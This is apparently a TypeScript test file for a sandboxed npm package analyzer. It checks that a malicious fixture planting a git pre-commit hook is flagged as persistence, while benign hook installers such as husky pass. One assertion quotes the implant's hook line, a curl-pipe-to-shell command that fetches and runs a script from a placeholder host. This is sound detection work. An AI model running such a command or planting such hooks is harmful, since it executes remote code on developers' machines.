import { join, resolve } from 'node:path';
import { describe, expect, it } from 'vitest';
import { analyzeLocalPackage, type AnalyzeOptions } from '@airlock/analysis';
import { connectDocker } from '@airlock/sandbox';
import { reportSchemaErrors } from '../support/report-schema.js';
import { testTempDir } from '../support/temp-dir.js';

// The scratch project is a git checkout, as a developer's is: implants that look for its .git/hooks find it,
// and the hook they leave is read back so a hook installer's launcher can be told from an implant.
// Fixture code runs only in the sandbox.
const artifactsRoot = testTempDir('airlock-hooks-');
const docker = connectDocker();
const incidents = resolve(__dirname, '../fixtures/incidents');
const oneRun: AnalyzeOptions = {
  docker,
  artifactsRoot,
  retry: false,
  ciProfile: false,
  platformViews: false,
  timeView: false,
  callView: false,
};
const hookPath = '/home/jordan/projects/app/.git/hooks/pre-commit';

describe("git hooks in the installing project's repository", () => {
  it('sees an implant that writes a hook only where a repository exists, and reads the hook back', async () => {
    const r = await analyzeLocalPackage(join(incidents, 'mal-project-git-hook'), oneRun);
    expect(reportSchemaErrors(r)).toEqual([]);
    const hook = r.persistenceFiles?.find((f) => f.path === hookPath);
    expect(hook?.head).toContain('curl -fsSL https://cdn.git-hook-fixture.example/c.sh | sh');
    expect(hook?.normalizedPath).toBe('<HOME>/projects/app/.git/hooks/pre-commit');
    const persistence = r.verdict?.reasons.find((reason) => reason.rule === 'persistence');
    expect(persistence?.evidence.some((e) => e.path === hookPath)).toBe(true);
    expect(r.verdict?.verdict).toBe('malicious');
  });

  it("leaves a hook installer's launcher (hands over to its runner in node_modules) and husky's project-local hooksPath unflagged", async () => {
    const launcher = await analyzeLocalPackage(join(incidents, 'ben-hook-installer-launcher'), oneRun);
    expect(launcher.persistenceFiles?.find((f) => f.path === hookPath)?.head).toMatch(
      /exec node ".*node_modules\/airlock-fixture-hook-installer\/run\.js"/,
    );
    expect(launcher.verdict?.reasons.map((reason) => reason.rule)).not.toContain('persistence');
    expect(launcher.verdict?.verdict).toBe('benign');

    const husky = await analyzeLocalPackage(join(incidents, 'ben-husky-project-hooks'), oneRun);
    expect(husky.phases[0]?.stdout.text).toContain('husky: hooks installed'); // the project is a repository now
    expect(husky.verdict?.verdict).toBe('benign');
  });
});
